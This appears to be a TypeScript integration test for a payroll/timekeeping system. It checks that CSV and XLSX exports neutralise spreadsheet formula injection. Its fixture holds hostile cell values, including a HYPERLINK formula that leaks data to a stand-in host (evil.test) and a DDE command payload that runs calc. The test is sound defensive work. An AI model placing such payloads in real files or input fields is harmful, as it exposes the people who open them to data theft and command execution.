import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { JobDto, PAYROLL_EXPORT_COLUMNS, PayCardDto, PayrollTransferDto, SAP_JOB_COSTING_COLUMNS, TimeApprovalRow, Page } from '@timekeep/contracts';
import { openCustomer, startTestStack, TestStack } from '@timekeep/server-testing';

type Reply = { message: string; id?: string; departmentVo?: { id: string } };

/**
 * Issue 28 point 2: what a Supervisor (or anyone who can name a record) types must never become a
 * formula in a file the payroll officer opens in a spreadsheet (OWASP "CSV Injection", ADR 0048).
 */
const HOSTILE = {
  firstName: '=HYPERLINK("http://evil.test/?leak="&A1,"Click")',
  lastName: 'Walker',
  payId: '@SUM(1)',
  department: '-2+3 Yard',
  jobCode: '+cmd|\' /C calc\'!A0',
  jobName: '=Tabbed()',
  wbs: '-1+WBS',
  payTypeCode: '=1+1',
  payTypeName: '@Travel',
};
const DANGEROUS = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^-?\d+(\.\d+)?$/;
/** The texts the files must carry whole, each after one neutralising quote. */
const TEXTS = [`${HOSTILE.firstName} ${HOSTILE.lastName}`, HOSTILE.payId, HOSTILE.department, HOSTILE.jobCode, HOSTILE.jobName, HOSTILE.wbs];

/** Parsed by a real CSV parser (RFC 4180), as a payroll system or spreadsheet would. */
const rowsOf = (text: string): Array<Record<string, string>> => parse(text, { columns: true, skip_empty_lines: true, relax_column_count: false });

/** No cell starts a formula except a genuine number in a number column; every hostile text is there whole, after a quote. */
function expectFormulaSafe(rows: Array<Record<string, string>>, numberColumns: readonly string[]): void {
  expect(rows.length).toBeGreaterThan(0);
  for (const row of rows) {
    for (const [column, cell] of Object.entries(row)) {
      if (numberColumns.includes(column) && PLAIN_NUMBER.test(cell)) continue;
      expect([column, DANGEROUS.test(cell)]).toEqual([column, false]);
    }
  }
}

describe('exports never carry a formula (issue 28 point 2)', () => {
  let stack: TestStack;
  let admin: string;
  let hostile: string;
  let payGroupId: string;
  let travel: string;
  let monday: string;
  let sunday: string;

  const post = async (path: string, body: Record<string, unknown>, token = admin) => (await stack.call<Reply>('POST', path, { token, body })).body;
  const fetchText = async (path: string) => {
    const response = await fetch(`${stack.baseUrl}${path}`, { headers: { authorization: `Bearer ${admin}` } });
    expect(response.status).toBe(200);
    return response.text();
  };
  const periodOf = async (from: string) => {
    const list = (await stack.call<{ items: PayrollTransferDto[] }>('GET', '/api/payroll-transfers/search?filterDays=3660', { token: admin })).body.items;
    const found = list.find((p) => p.fromDate === from && p.paygroupId === payGroupId);
    if (!found) throw new Error(`No period from ${from}`);
    return found;
  };

  beforeAll(async () => {
    stack = await startTestStack();
    const opened = await openCustomer(stack, { name: 'Kauri Exports Ltd', code: 'KAURIX', adminEmail: 'admin@kaurix.example.com', specialCustomer: true, thirdPartyTypeId: '06', isTimeApprovalEnabled: true, isJobCodeEnabled: true });
    admin = opened.admin;
    const departmentId = (await post('/department/save', { departmentName: HOSTILE.department })).departmentVo?.id as string;
    expect(departmentId).toEqual(expect.any(String));
    payGroupId = (await post('/paygroup/save', { name: 'Weekly', startTime: '2026-01-05', period: 'Weekly', breakCalculationType: 'None', earlyArrivalThreshold: 90, lateDepartureThreshold: 90 })).id as string;
    travel = (await post('/paytype/save', { code: HOSTILE.payTypeCode, name: HOSTILE.payTypeName, isAllowance: true, ctDay: 8 })).id as string;
    expect(travel).toEqual(expect.any(String));
    // An SAP company's jobs come from its file.
    const workbook = new ExcelJS.Workbook();
    const jobsSheet = workbook.addWorksheet('Jobs');
    jobsSheet.addRow(['Job Code', 'Job Name', 'Job Punch Code', 'Job Status', 'External Job ID', 'Task Code', 'Task Name', 'Task Status', 'External Task ID']);
    jobsSheet.addRow([HOSTILE.jobCode, HOSTILE.jobName, '', 'Active', HOSTILE.wbs, null, null, null, null]);
    const form = new FormData();
    form.append('jobFile', new Blob([Buffer.from(await workbook.xlsx.writeBuffer())]), 'jobs.xlsx');
    const imported = await fetch(`${stack.baseUrl}/api/jobs/import`, { method: 'POST', headers: { authorization: `Bearer ${admin}` }, body: form });
    expect(await imported.json()).toMatchObject({ message: 'success' });
    const job = (await stack.call<Page<JobDto>>('GET', '/api/jobs?pageSize=100', { token: admin })).body.items.find((j) => j.code === HOSTILE.jobCode)?.id as string;
    expect(job).toEqual(expect.any(String));
    // Anyone who may name a person (a Supervisor edits their own people's) could type these.
    const hired = await post('/employee/save-without-photo', { firstName: HOSTILE.firstName, lastName: HOSTILE.lastName, departmentId, paygroupId: payGroupId, hireOnDateValue: '2026-01-05', payId: HOSTILE.payId, clockId: '', payRate: 30 });
    hostile = hired.id as string;
    expect([hostile, hired]).toEqual([expect.any(String), hired]);
    monday = '2026-11-09';
    sunday = '2026-11-15';
    expect((await post('/timesheet/saveSinglePunch', { employeeId: hostile, day: '2026-11-10', inTime: '08:00', outTime: '12:30', jobId: job })).message).toBe('success');
    // An allowance counted in units, and an ordinary-time correction of minus 1.5 hours: a genuine negative number.
    const card = (await stack.call<PayCardDto>('POST', '/paycard/getPayCard', { token: admin, body: { employeeId: hostile, fromDate: monday } })).body;
    const types = (await stack.call<Array<{ id: string; code: string }> | { items: Array<{ id: string; code: string }> }>('GET', '/api/pay-types', { token: admin })).body;
    const list = Array.isArray(types) ? types : types.items;
    const extra = list.find((t) => t.code === 'ORD' && !card.details.some((d) => d.payTypeId === t.id));
    const details = [...card.details.map((d) => ({ id: d.id, payTypeId: d.payTypeId, effUnits: d.effUnits })), { payTypeId: travel, effUnits: 2 }];
    if (extra) details.push({ id: undefined as unknown as string, payTypeId: extra.id, effUnits: -1.5 });
    else details[0].effUnits = -1.5;
    expect((await post('/paycard/save', { employeeId: hostile, fromDate: monday, details })).message).toBe('success');
    const pairs = (await stack.call<Page<TimeApprovalRow>>('GET', `/api/time-approvals?startDate=${monday}&endDate=${sunday}&pageSize=100`, { token: admin })).body.items;
    expect((await post('/time-approvals/approveAllSelected', { punchPairIds: pairs.map((r) => r.punchPairId) })).message).toBe('success');
  });
  afterAll(() => stack.close());

  it('neutralises the payroll CSV: names, Pay IDs, departments and pay type codes start no formula; a negative number stays a number', async () => {
    const period = await periodOf(monday);
    const text = await fetchText(`/payrolltransfer/exportCSV?id=${period.id}`);
    const rows = rowsOf(text);
    expect(Object.keys(rows[0])).toEqual([...PAYROLL_EXPORT_COLUMNS]);
    expectFormulaSafe(rows, ['Units', 'Rate']);
    const mine = rows.filter((r) => r['Pay ID'] === `'${HOSTILE.payId}`);
    expect(mine.length).toBeGreaterThan(1);
    expect(mine[0]).toMatchObject({ Employee: `'${HOSTILE.firstName} ${HOSTILE.lastName}`, Department: `'${HOSTILE.department}` });
    expect(mine.find((r) => r['Pay Type'] === `'${HOSTILE.payTypeName}`)).toMatchObject({ 'Pay Type Code': `'${HOSTILE.payTypeCode}`, Unit: 'units', Units: '2' });
    // The correction is a number a payroll importer reads as minus one and a half hours.
    expect(mine.map((r) => r.Units)).toContain('-1.50');
    // In the file, a neutralised cell is quoted as OWASP asks; the number is not.
    expect(text).toContain(`"'${HOSTILE.firstName.replace(/"/g, '""')} ${HOSTILE.lastName}"`);
    expect(text).toContain(`"'${HOSTILE.payId}"`);
    expect(text).toMatch(/,-1\.50,/);
  });

  it('neutralises the allowance file the same way', async () => {
    const period = await periodOf(monday);
    const rows = rowsOf(await fetchText(`/payrolltransfer/exportAllowance?id=${period.id}`));
    expectFormulaSafe(rows, ['Units', 'Rate']);
    expect(rows.map((r) => [r['Pay ID'], r['Pay Type Code'], r['Pay Type'], r.Units])).toEqual([[`'${HOSTILE.payId}`, `'${HOSTILE.payTypeCode}`, `'${HOSTILE.payTypeName}`, '2']]);
  });

  it("neutralises SAP's TimesheetTransfer.csv: personnel number, name, department and job", async () => {
    const rows = rowsOf(await fetchText(`/SAP-job-costings?startDate=${monday}&endDate=${sunday}`));
    expect(Object.keys(rows[0])).toEqual([...SAP_JOB_COSTING_COLUMNS]);
    expectFormulaSafe(rows, ['Hours']);
    expect(rows[0]).toMatchObject({
      'Personnel Number': `'${HOSTILE.payId}`,
      Employee: `'${HOSTILE.firstName} ${HOSTILE.lastName}`,
      Department: `'${HOSTILE.department}`,
      'Job Code': `'${HOSTILE.jobCode}`,
      Job: `'${HOSTILE.jobName}`,
      'WBS Element': `'${HOSTILE.wbs}`,
      Hours: '4.50',
    });
    for (const text of TEXTS) expect(Object.values(rows[0])).toContain(`'${text}`);
  });

  it('keeps such a value a text cell in an XLSX report, never a formula', async () => {
    const response = await fetch(`${stack.baseUrl}/jasper/download`, {
      method: 'POST',
      headers: { authorization: `Bearer ${admin}`, 'content-type': 'application/json' },
      body: JSON.stringify({ report: 'TimesheetSummaryReport', startDate: monday, endDate: sunday, format: 'XLSX', grouping: 'None', sorting: 'LastName' }),
    });
    expect(response.status).toBe(200);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(await response.arrayBuffer());
    const cells: ExcelJS.Cell[] = [];
    book.worksheets[0].eachRow((row) => row.eachCell((cell) => cells.push(cell)));
    const named = cells.filter((c) => c.value === `${HOSTILE.firstName} ${HOSTILE.lastName}` || c.value === HOSTILE.payId || c.value === HOSTILE.department);
    expect(named.length).toBeGreaterThanOrEqual(3);
    for (const cell of named) expect([cell.value, cell.type]).toEqual([cell.value, ExcelJS.ValueType.String]);
    expect(cells.some((c) => c.type === ExcelJS.ValueType.Formula)).toBe(false);
  });
});
